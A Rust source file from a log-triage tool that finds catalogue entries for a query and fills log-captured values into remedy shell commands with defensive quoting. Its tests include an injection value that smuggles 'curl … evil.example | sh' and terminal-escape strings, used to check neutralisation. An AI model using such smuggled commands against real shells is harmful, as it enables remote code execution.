//! `triage explain QUERY`: find the entries a person means, from an id, a few words, a
//! browser's error code, or a whole pasted log line; and render an entry in full.

use std::collections::{HashMap, HashSet};

use fuzzy_matcher::{FuzzyMatcher, skim::SkimMatcherV2};

use crate::{
    catalogue::{Catalogue, Entry, Lang},
    matcher::Matcher,
};

/// Why an entry was found.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Reason {
    /// The query is the entry's id.
    Id,
    /// The query, read as a log line, matches the entry's regexes.
    LineMatches,
    /// The query fuzzily matches the entry's id, title, symptoms or examples.
    Fuzzy,
    /// The query shares distinctive words with the entry's examples and symptoms.
    Words,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Found {
    pub entry: usize,
    pub reason: Reason,
    pub score: i64,
}

/// The best entries for `query`, best first, at most `limit`.
pub fn explain(catalogue: &Catalogue, matcher: &Matcher, query: &str, limit: usize) -> Vec<Found> {
    let query = query.trim();
    if query.is_empty() {
        return Vec::new();
    }
    let mut found: Vec<Found> = Vec::new();
    if let Some(index) = catalogue.index_of(query) {
        found.push(Found {
            entry: index,
            reason: Reason::Id,
            score: i64::MAX,
        });
    }
    for hit in crate::ingest::match_line(matcher, query.as_bytes()) {
        found.push(Found {
            entry: hit.entry,
            reason: Reason::LineMatches,
            score: i64::MAX - 1,
        });
    }
    // A whole pasted log line is answered by the catalogue's regexes or not at all: words it
    // happens to share with an entry (`unix socket lock file` in a MySQL line, the docker
    // socket's entry) are no evidence.
    if !looks_like_a_log_line(query) {
        found.extend(nearest(catalogue, query, usize::MAX));
    }
    let mut seen = HashSet::new();
    found.sort_by(|a, b| a.reason.cmp(&b.reason).then(b.score.cmp(&a.score)));
    found.retain(|f| seen.insert(f.entry));
    found.truncate(limit);
    found
}

/// The entries nearest to some words (not a log line: its regexes are for that), best
/// first, at most `limit`, each scoring at least the threshold `explain` answers with: fuzzy
/// matches of the entries' ids, titles, symptoms and examples, else the distinctive words
/// shared with them. Nothing, when nothing scores well.
pub fn nearest(catalogue: &Catalogue, words: &str, limit: usize) -> Vec<Found> {
    let words = words.trim();
    if words.is_empty() {
        return Vec::new();
    }
    let mut ranked = fuzzy(catalogue, words);
    if ranked.is_empty() {
        ranked = shared_words(catalogue, words);
    }
    ranked.sort_by_key(|f| std::cmp::Reverse(f.score));
    ranked.truncate(limit);
    ranked
}

/// What a person would search an entry by.
fn haystacks(entry: &Entry) -> impl Iterator<Item = &str> {
    [
        entry.id.as_str(),
        entry.title.en.as_str(),
        entry.title.zh.as_str(),
    ]
    .into_iter()
    .chain(entry.symptoms.iter().map(String::as_str))
    .chain(entry.examples.iter().map(String::as_str))
}

/// The least fuzzy score per character of the query that counts as a match.
const FUZZY_PER_CHAR: i64 = 11;

/// Does the query look like a whole log line (a known format, a leading timestamp, or a
/// sentence of many words) rather than a few search words?
pub fn looks_like_a_log_line(query: &str) -> bool {
    let bytes = query.as_bytes();
    crate::parse::sniff(bytes) != crate::parse::LogFormat::Plain
        || crate::parse::time::leading(bytes, 2000).is_some()
        || words(query).count() >= 8
}

fn fuzzy(catalogue: &Catalogue, query: &str) -> Vec<Found> {
    let matcher = SkimMatcherV2::default().ignore_case();
    let mut scored: Vec<Found> = catalogue
        .entries()
        .iter()
        .enumerate()
        .filter_map(|(index, entry)| {
            let score = haystacks(entry)
                .filter_map(|hay| matcher.fuzzy_match(hay, query))
                .max()?;
            Some(Found {
                entry: index,
                reason: Reason::Fuzzy,
                score,
            })
        })
        .collect();
    // Fuzzy matching finds something for nearly any query (`xyzzy` is a subsequence of many
    // log lines). A real match scores about 15-20 a character (measured on the catalogue:
    // `dpkg lock` 195, `502 bad gateway` 315); `lorem ipsum` scores 10 a character, `xyzzy` 5.
    // A query this short must also appear as it is (`foo` is a subsequence of "Found option").
    let chars = query.chars().count() as i64;
    let lower = query.to_lowercase();
    scored.retain(|f| {
        f.score >= FUZZY_PER_CHAR * chars
            && (chars >= 5
                || haystacks(&catalogue.entries()[f.entry])
                    .any(|hay| hay.to_lowercase().contains(&lower)))
    });
    // Keep only the entries that match nearly as well as the best one.
    let best = scored.iter().map(|f| f.score).max().unwrap_or(0);
    scored.retain(|f| f.score * 10 >= best * 6);
    scored
}

fn words(text: &str) -> impl Iterator<Item = String> + '_ {
    text.split(|c: char| !c.is_alphanumeric() && c != '_')
        .filter(|w| w.chars().count() >= 3 && !w.chars().all(|c| c.is_ascii_digit()))
        .map(str::to_lowercase)
}

/// Score entries by the distinctive words they share with the query (each word weighted by
/// how few entries use it), for pasted lines that differ from every example in detail.
fn shared_words(catalogue: &Catalogue, query: &str) -> Vec<Found> {
    let vocab: Vec<HashSet<String>> = catalogue
        .entries()
        .iter()
        .map(|entry| haystacks(entry).flat_map(words).collect())
        .collect();
    let mut document_frequency: HashMap<&str, usize> = HashMap::new();
    for set in &vocab {
        for word in set {
            *document_frequency.entry(word.as_str()).or_default() += 1;
        }
    }
    let query_words: HashSet<String> = words(query).collect();
    let total = vocab.len().max(1) as f64;
    let mut scored: Vec<Found> = vocab
        .iter()
        .enumerate()
        .filter_map(|(index, set)| {
            let score: f64 = query_words
                .iter()
                .filter(|w| set.contains(*w))
                .map(|w| (total / document_frequency[w.as_str()] as f64).ln())
                .sum();
            (score > 0.0).then_some(Found {
                entry: index,
                reason: Reason::Words,
                score: (score * 1000.0) as i64,
            })
        })
        .collect();
    // An entry must share at least half of the query's words to be an answer at all.
    scored.retain(|f| {
        let shared = query_words
            .iter()
            .filter(|w| vocab[f.entry].contains(*w))
            .count();
        shared * 2 >= query_words.len()
    });
    let best = scored.iter().map(|f| f.score).max().unwrap_or(0);
    scored.retain(|f| f.score * 2 >= best);
    scored
}

/// A remedy command with a hit's captures filled in, each quoted for the shell context its
/// placeholder sits in, so that pasting it into a shell runs the catalogue's command and
/// nothing a log line planted.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FilledCommand {
    /// The command as shown and copied; placeholders that could not be filled are `<name>`.
    pub text: String,
    /// The placeholders left as `<name>`, in order, and why.
    pub unfilled: Vec<Unfilled>,
}

impl FilledCommand {
    /// Whether every placeholder was filled: the command can be run as it is.
    pub fn is_complete(&self) -> bool {
        self.unfilled.is_empty()
    }
}

impl std::fmt::Display for FilledCommand {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.text)
    }
}

/// A placeholder left for the user to fill in.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Unfilled {
    pub name: String,
    pub reason: UnfilledReason,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum UnfilledReason {
    /// Neither the hit's captures nor the line's context has a value of that name.
    NoCapture,
    /// The captured value holds characters no quoting makes safe to paste: controls,
    /// newlines, bidi overrides, zero-width characters.
    Unprintable,
    /// The captured value starts with `-` where it would begin a word: a command would read
    /// it as an option, quoted or not.
    LooksLikeOption,
    /// The placeholder sits where this filler cannot quote for (inside `$'…'` or backticks).
    UnknownQuoting,
}

/// Where in a shell command line the walker is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Quoting {
    /// Inside `'…'`: everything literal up to the next `'`.
    Single,
    /// Inside `"…"`: `$`, `` ` ``, `\` and `"` are special (and `!` to an interactive bash).
    Double,
    /// Inside `$'…'`: backslash escapes.
    AnsiC,
    /// Inside `` `…` ``.
    Backtick,
    /// Inside `$(…)` or a `(…)` within one: words as at top level.
    Parens,
}

/// Fill `{name}` placeholders in a remedy command from a hit's captures. Each value is quoted
/// for where its placeholder sits (bare word, inside single quotes, inside double quotes), by
/// following the quoting of the template as the shell would. A placeholder is left as
/// `<name>`, and listed in [`FilledCommand::unfilled`], when there is no capture of that name,
/// when the value cannot be pasted safely however quoted, or when it would be read as an
/// option.
pub fn fill_command(command: &str, captures: &[(String, String)]) -> FilledCommand {
    fill_with(command, |name| {
        captures
            .iter()
            .find(|(k, _)| k == name)
            .map(|(_, v)| v.as_str())
    })
}

/// [`fill_command`] with each placeholder's value from `lookup`.
fn fill_with<'v>(command: &str, lookup: impl Fn(&str) -> Option<&'v str>) -> FilledCommand {
    let mut out = String::with_capacity(command.len());
    let mut unfilled = Vec::new();
    let mut stack: Vec<Quoting> = Vec::new();
    // Whether the current shell word has nothing in it yet (an opening quote aside).
    let mut word_empty = true;
    let mut chars = command.char_indices().peekable();
    while let Some((at, c)) = chars.next() {
        if c == '{' && chars.peek().is_some_and(|&(_, n)| n == '{') {
            // `{{…}}` is a Go template (docker's `--format`), never a placeholder.
            chars.next();
            out.push_str("{{");
            word_empty = false;
            continue;
        }
        if c == '{' {
            if let Some(name) = placeholder_at(&command[at..]) {
                let value = lookup(name);
                let filled = match value {
                    None => Err(UnfilledReason::NoCapture),
                    Some(value) => quote_for(stack.last().copied(), value, word_empty),
                };
                match filled {
                    Ok(text) => out.push_str(&text),
                    Err(reason) => {
                        out.push_str(&format!("<{name}>"));
                        unfilled.push(Unfilled {
                            name: name.to_string(),
                            reason,
                        });
                    }
                }
                word_empty = false;
                for _ in 0..name.chars().count() + 1 {
                    chars.next();
                }
                continue;
            }
        }
        out.push(c);
        let next = chars.peek().map(|&(_, n)| n);
        let mut take_next = || {
            if let Some((_, n)) = chars.next() {
                out.push(n);
            }
        };
        match stack.last().copied() {
            None | Some(Quoting::Parens) => match c {
                '\\' => {
                    take_next();
                    word_empty = false;
                }
                '\'' => stack.push(Quoting::Single),
                '"' => stack.push(Quoting::Double),
                '$' if next == Some('\'') => {
                    take_next();
                    stack.push(Quoting::AnsiC);
                }
                '$' if next == Some('(') => {
                    take_next();
                    stack.push(Quoting::Parens);
                    word_empty = true;
                }
                '`' => stack.push(Quoting::Backtick),
                '(' => {
                    stack.push(Quoting::Parens);
                    word_empty = true;
                }
                ')' if !stack.is_empty() => {
                    stack.pop();
                    word_empty = false;
                }
                c if c.is_whitespace() || matches!(c, ';' | '|' | '&' | '<' | '>') => {
                    word_empty = true
                }
                _ => word_empty = false,
            },
            Some(Quoting::Single) => {
                if c == '\'' {
                    stack.pop();
                }
                word_empty = false;
            }
            Some(Quoting::Double) => {
                match c {
                    '\\' => take_next(),
                    '"' => {
                        stack.pop();
                    }
                    '$' if next == Some('(') => {
                        take_next();
                        stack.push(Quoting::Parens);
                    }
                    '`' => stack.push(Quoting::Backtick),
                    _ => {}
                }
                word_empty = false;
            }
            Some(Quoting::AnsiC) => {
                match c {
                    '\\' => take_next(),
                    '\'' => {
                        stack.pop();
                    }
                    _ => {}
                }
                word_empty = false;
            }
            Some(Quoting::Backtick) => {
                match c {
                    '\\' => take_next(),
                    '`' => {
                        stack.pop();
                    }
                    _ => {}
                }
                word_empty = false;
            }
        }
    }
    FilledCommand {
        text: out,
        unfilled,
    }
}

/// [`fill_command`] with the hit's `captures` first, then the line's live and files'
/// `context` (see [`crate::fill_context`]): a name the captures lack takes the context's value,
/// quoted the same way.
pub fn fill_command_in(
    command: &str,
    captures: &[(String, String)],
    context: &crate::fill_context::FillContext,
) -> FilledCommand {
    fill_with(command, |name| {
        captures
            .iter()
            .find(|(k, _)| k == name)
            .map(|(_, v)| v.as_str())
            .or_else(|| context.get(name))
    })
}

/// The name of the `{name}` placeholder `text` starts with, if it starts with one.
fn placeholder_at(text: &str) -> Option<&str> {
    let close = text.find('}')?;
    let name = &text[1..close];
    let is_name = !name.is_empty() && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_');
    is_name.then_some(name)
}

/// The placeholders of `filled` that had a value from the log but were left unfilled, as
/// `<a>, <b>` (a missing capture is the usual `<name>` to fill in and needs no word).
pub fn refused_names(filled: &FilledCommand) -> String {
    filled
        .unfilled
        .iter()
        .filter(|u| u.reason != UnfilledReason::NoCapture)
        .map(|u| format!("<{}>", u.name))
        .collect::<Vec<_>>()
        .join(", ")
}

/// `value` written so that the shell reads it as literal text where `quoting` says the
/// placeholder sits (`None`: a bare word).
fn quote_for(
    quoting: Option<Quoting>,
    value: &str,
    word_empty: bool,
) -> Result<String, UnfilledReason> {
    if value.chars().any(cannot_be_pasted) {
        return Err(UnfilledReason::Unprintable);
    }
    if word_empty && value.starts_with('-') {
        return Err(UnfilledReason::LooksLikeOption);
    }
    match quoting {
        None | Some(Quoting::Parens) => Ok(quote_word(value)),
        // Close the quotes, an escaped quote, reopen: the only way to put `'` in '…'.
        Some(Quoting::Single) => Ok(value.replace('\'', r"'\''")),
        Some(Quoting::Double) => {
            if value
                .chars()
                .any(|c| matches!(c, '$' | '`' | '\\' | '"' | '!'))
            {
                // A backslash does not stop bash's history expansion of `!` inside "…" (it
                // stays in the word), so leave the double quotes for single-quoted text.
                Ok(format!("\"{}\"", single_quoted(value)))
            } else {
                Ok(value.to_string())
            }
        }
        Some(Quoting::AnsiC | Quoting::Backtick) => Err(UnfilledReason::UnknownQuoting),
    }
}

/// `value` as one bare shell word: as it is when every character is inert, else in single
/// quotes. Not `shell_words::quote`: it leaves `!` (bash's history expansion), `{a,b}` (brace
/// expansion) and `^` bare, which a pasted command must not.
pub(crate) fn quote_word(value: &str) -> String {
    let inert = |c: char| {
        c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.' | ',' | '/' | ':' | '@' | '+')
    };
    if !value.is_empty() && value.chars().all(inert) {
        value.to_string()
    } else {
        single_quoted(value)
    }
}

fn single_quoted(value: &str) -> String {
    format!("'{}'", value.replace('\'', r"'\''"))
}

/// Characters that no quoting makes safe to paste into a terminal: they end the line, drive
/// the terminal, or hide or reorder what the user reads before pressing Enter.
fn cannot_be_pasted(c: char) -> bool {
    c.is_control()
        || crate::sanitize::is_invisible_format(c)
        || matches!(
            c,
            '\u{00ad}' | '\u{180e}' | '\u{2028}' | '\u{2029}' | '\u{2060}'..='\u{2064}' | '\u{fff9}'..='\u{fffb}'
        )
}

/// The `{name}` placeholders of a remedy command, in order, as `fill_command` finds them.
pub fn placeholder_names(command: &str) -> Vec<&str> {
    let mut names = Vec::new();
    let mut rest = command;
    while let Some(open) = rest.find('{') {
        let Some(close) = rest[open..].find('}').map(|c| open + c) else {
            break;
        };
        let name = &rest[open + 1..close];
        if !name.is_empty() && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_') {
            names.push(name);
        }
        rest = &rest[close + 1..];
    }
    names
}

/// Text written in the catalogue with hard line breaks, as paragraphs for the screen to wrap.
pub fn reflow(text: &str) -> Vec<String> {
    text.trim()
        .split("\n\n")
        .map(|paragraph| {
            let mut joined = String::new();
            for line in paragraph.lines().map(str::trim).filter(|l| !l.is_empty()) {
                // Chinese needs no space where a line was broken; other text does.
                let cjk = |c: Option<char>| c.is_some_and(|c| c > '\u{2e80}');
                let cjk_join = cjk(joined.chars().last()) && cjk(line.chars().next());
                if !joined.is_empty() && !cjk_join {
                    joined.push(' ');
                }
                joined.push_str(line);
            }
            joined
        })
        .collect()
}

/// The headings of an entry card in each language.
pub struct Labels {
    pub cause: &'static str,
    pub remedy: &'static str,
    pub leads_to: &'static str,
    pub comes_from: &'static str,
    pub postmortem: &'static str,
    pub lesson: &'static str,
    pub seen_as: &'static str,
    pub sources: &'static str,
    /// Marks a remedy step that can destroy data or access.
    pub destructive: &'static str,
    /// Heads a choice's options.
    pub one_of: &'static str,
}

pub fn labels(lang: Lang) -> Labels {
    match lang {
        Lang::En => Labels {
            cause: "Cause",
            remedy: "Remedy",
            leads_to: "Leads to",
            comes_from: "Often follows",
            postmortem: "Postmortem §",
            lesson: "lesson",
            seen_as: "Seen as",
            sources: "Where",
            destructive: "[DESTRUCTIVE]",
            one_of: "One of:",
        },
        Lang::Zh => Labels {
            cause: "原因",
            remedy: "解决方法",
            leads_to: "可能导致",
            comes_from: "常见前因",
            postmortem: "复盘报告 §",
            lesson: "教训",
            seen_as: "日志示例",
            sources: "出现位置",
            destructive: "[危险操作]",
            one_of: "以下任选其一：",
        },
    }
}

/// The letter an option is listed by: `a`, `b`, … (the viewer's `o` cycles them).
pub fn option_mark(k: usize) -> char {
    char::from(b'a' + (k % 26) as u8)
}

/// One step of a card: its text after `head`, its warning and commands indented by `indent`.
fn card_step(
    out: &mut String,
    step: &crate::catalogue::RemedyStep,
    head: &str,
    indent: &str,
    lang: Lang,
    captures: &[(String, String)],
) {
    let l = labels(lang);
    if step.destructive {
        *out += &format!("{head}{} {}\n", l.destructive, step.text(lang).trim());
        if let Some(warning) = step.warning(lang) {
            *out += &format!("{indent}! {}\n", fill_command(warning.trim(), captures));
        }
    } else {
        *out += &format!("{head}{}\n", step.text(lang).trim());
    }
    for cmd in &step.run {
        let filled = fill_command(cmd, captures);
        *out += &format!("{indent}$ {filled}\n");
        let refused = refused_names(&filled);
        if !refused.is_empty() {
            *out += &match lang {
                Lang::En => format!(
                    "{indent}  (not filled from the log, unsafe to paste: {refused}; fill in by hand)\n"
                ),
                Lang::Zh => {
                    format!("{indent}  （日志中的值不能安全粘贴，未填入：{refused}；请手动填写）\n")
                }
            };
        }
    }
}

/// An entry in full, as plain text (no colour, no terminal escapes: safe anywhere).
pub fn render_card(
    catalogue: &Catalogue,
    entry: &Entry,
    lang: Lang,
    captures: &[(String, String)],
) -> String {
    let l = labels(lang);
    let mut out = String::new();
    out += &format!(
        "{}  {}  {}\n",
        entry.severity.word(lang).to_uppercase(),
        entry.id,
        entry.title.get(lang)
    );
    let sources: Vec<&str> = entry
        .sources
        .iter()
        .map(|s| match s {
            crate::catalogue::SourceKind::Docker => "docker",
            crate::catalogue::SourceKind::Journal => "journal",
            crate::catalogue::SourceKind::Kernel => "kernel",
            crate::catalogue::SourceKind::Nginx => "nginx",
            crate::catalogue::SourceKind::Apt => "apt",
            crate::catalogue::SourceKind::Browser => "browser",
            crate::catalogue::SourceKind::Any => "any",
        })
        .collect();
    let mut meta = Vec::new();
    if !sources.is_empty() {
        meta.push(format!("{}: {}", l.sources, sources.join(", ")));
    }
    if let Some(section) = &entry.postmortem {
        let mut reference = format!("{}{section}", l.postmortem);
        if let Some(lesson) = entry.lesson {
            reference += &format!(", {} {lesson}", l.lesson);
        }
        meta.push(reference);
    }
    if !meta.is_empty() {
        out += &format!("{}\n", meta.join("   "));
    }
    out += &format!("\n{}:\n", l.cause);
    for paragraph in reflow(entry.cause.get(lang)) {
        out += &format!("  {paragraph}\n");
    }
    out += &format!("\n{}:\n", l.remedy);
    for (n, part) in crate::catalogue::remedy_parts(&entry.remedy)
        .into_iter()
        .enumerate()
    {
        match part {
            crate::catalogue::Part::Step(step) => {
                card_step(
                    &mut out,
                    step,
                    &format!("  {}. ", n + 1),
                    "     ",
                    lang,
                    captures,
                );
            }
            crate::catalogue::Part::Choice(options) => {
                out += &format!("  {}. {}\n", n + 1, l.one_of);
                for (k, step) in options.iter().enumerate() {
                    let label = step.option(lang).unwrap_or_default();
                    let mark = option_mark(k);
                    card_step(
                        &mut out,
                        step,
                        &format!("     {mark}) {label}: "),
                        "        ",
                        lang,
                        captures,
                    );
                }
            }
        }
    }
    let related = |ids: Vec<&str>| -> Vec<String> {
        ids.into_iter()
            .map(|id| match catalogue.get(id) {
                Some(e) => format!("{id} ({})", e.title.get(lang)),
                None => id.to_string(),
            })
            .collect()
    };
    let leads_to = related(entry.leads_to.iter().map(String::as_str).collect());
    if !leads_to.is_empty() {
        out += &format!("\n{}: {}\n", l.leads_to, leads_to.join("; "));
    }
    let comes_from = related(
        catalogue
            .comes_from(&entry.id)
            .map(|e| e.id.as_str())
            .collect(),
    );
    if !comes_from.is_empty() {
        out += &format!("{}: {}\n", l.comes_from, comes_from.join("; "));
    }
    let seen: Vec<&String> = if entry.is_symptom_only() {
        entry.symptoms.iter().collect()
    } else {
        entry.examples.iter().take(3).collect()
    };
    if !seen.is_empty() {
        out += &format!("\n{}:\n", l.seen_as);
        for example in seen {
            out += &format!("  {}\n", crate::sanitize::visible(example.as_bytes()));
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn caps(pairs: &[(&str, &str)]) -> Vec<(String, String)> {
        pairs
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect()
    }

    #[test]
    fn nearest_answers_only_above_explains_threshold() {
        let (catalogue, _) = Catalogue::builtin();
        // What explain refuses to answer, the viewer's panel names nothing for either.
        for words in [
            "xyzzy",
            "lorem ipsum",
            "foo",
            "",
            "frobnicator shard jammed at slot",
        ] {
            assert!(nearest(&catalogue, words, 3).is_empty(), "{words}");
        }
        let found = nearest(&catalogue, "dpkg lock", 3);
        assert!(!found.is_empty() && found.len() <= 3);
        assert!(
            found
                .iter()
                .any(|f| catalogue.entries()[f.entry].id.contains("lock")),
            "{found:?}"
        );
        // Best first.
        assert!(found.windows(2).all(|w| w[0].score >= w[1].score));
    }

    #[test]
    fn commands_are_filled_from_captures() {
        let caps = caps(&[("container", "athena_eye_db")]);
        assert_eq!(
            fill_command("docker logs {container}", &caps).text,
            "docker logs athena_eye_db"
        );
        let missing = fill_command("docker logs {name}", &caps);
        assert_eq!(missing.text, "docker logs <name>");
        assert_eq!(
            missing.unfilled,
            vec![Unfilled {
                name: "name".into(),
                reason: UnfilledReason::NoCapture
            }]
        );
        assert_eq!(
            fill_command("awk '{print $1}'", &caps).text,
            "awk '{print $1}'"
        );
        assert_eq!(fill_command("x {", &caps).text, "x {");
        assert_eq!(
            fill_command(
                "docker inspect --format '{{end}} {{.X}}' {container}",
                &caps
            )
            .text,
            "docker inspect --format '{{end}} {{.X}}' athena_eye_db"
        );
    }

    #[test]
    fn values_are_quoted_for_where_they_land() {
        let evil = "/etc/x'; curl -fsSL http://evil.example/p | sh; : '";
        let caps = caps(&[("path", evil)]);
        // Inside single quotes: each quote closes, is escaped, reopens.
        assert_eq!(
            fill_command("grep -B2 'target: {path}'", &caps).text,
            r"grep -B2 'target: /etc/x'\''; curl -fsSL http://evil.example/p | sh; : '\'''"
        );
        // A bare word: single-quoted whole.
        assert_eq!(
            fill_command("ls {path}", &caps).text,
            r"ls '/etc/x'\''; curl -fsSL http://evil.example/p | sh; : '\'''"
        );
        // Inside double quotes: left for single quotes when anything in it is special there.
        let caps = super::tests::caps(&[("path", "$(id) `id` !! \"")]);
        assert_eq!(
            fill_command("grep \"at {path}\"", &caps).text,
            "grep \"at \"'$(id) `id` !! \"'\"\""
        );
        let caps = super::tests::caps(&[("path", "a b*")]);
        assert_eq!(
            fill_command("grep \"at {path}\"", &caps).text,
            "grep \"at a b*\""
        );
        // Brace expansion and history expansion are quoted in a bare word too.
        let caps = super::tests::caps(&[("c", "{a,b}"), ("d", "x!y")]);
        assert_eq!(
            fill_command("docker logs {c} {d}", &caps).text,
            "docker logs '{a,b}' 'x!y'"
        );
    }

    #[test]
    fn unsafe_values_stay_unfilled_and_marked() {
        for value in [
            "a\nb",
            "a\rb",
            "\x1b[2J",
            "a\u{9b}b",
            "abc\u{202e}fed",
            "a\u{200b}b",
            "\u{7f}",
        ] {
            let caps = caps(&[("path", value)]);
            let filled = fill_command("grep 'target: {path}' && ls {path}", &caps);
            assert_eq!(
                filled.text, "grep 'target: <path>' && ls <path>",
                "{value:?}"
            );
            assert_eq!(filled.unfilled.len(), 2);
            assert!(
                filled
                    .unfilled
                    .iter()
                    .all(|u| u.reason == UnfilledReason::Unprintable)
            );
        }
        // An option where a word begins, not where it continues.
        let caps = caps(&[("container", "--rm")]);
        let filled = fill_command("docker rm -f {container}", &caps);
        assert_eq!(filled.text, "docker rm -f <container>");
        assert_eq!(filled.unfilled[0].reason, UnfilledReason::LooksLikeOption);
        assert_eq!(
            fill_command("docker ps --filter name={container}", &caps).text,
            "docker ps --filter name=--rm"
        );
        assert!(
            fill_command("echo '{container}'", &caps).unfilled[0].reason
                == UnfilledReason::LooksLikeOption
        );
        // Quoting this filler does not follow.
        let caps = super::tests::caps(&[("x", "a")]);
        assert_eq!(
            fill_command("echo $'{x}' `echo {x}` \"$(echo {x})\"", &caps).text,
            "echo $'<x>' `echo <x>` \"$(echo a)\""
        );
        assert_eq!(
            fill_command("awk '{print $1}'", &caps).text,
            "awk '{print $1}'"
        );
        assert_eq!(fill_command("x {", &caps).text, "x {");
        assert_eq!(
            placeholder_names("docker inspect -f '{{.Name}}' {container} | awk '{print $1}' {x"),
            ["container"]
        );
    }

    #[test]
    fn a_card_marks_a_destructive_step_and_fills_its_warning_and_command() {
        let (catalogue, errors) = Catalogue::builtin();
        assert!(errors.is_empty());
        let entry = catalogue.get("apt-lock").unwrap();
        let caps = vec![("pid".to_string(), "2187".to_string())];
        let card = render_card(&catalogue, entry, Lang::En, &caps);
        let marked = card
            .lines()
            .position(|l| l.contains("[DESTRUCTIVE]"))
            .expect("the kill step is marked");
        let lines: Vec<&str> = card.lines().collect();
        assert!(
            lines[marked + 1]
                .trim_start()
                .starts_with("! Ends a package installation")
        );
        assert_eq!(lines[marked + 2].trim(), "$ sudo kill 2187");
        let card = render_card(&catalogue, entry, Lang::Zh, &caps);
        assert!(card.contains("[危险操作]") && card.contains("! 会让软件包安装中途结束"));
    }
}
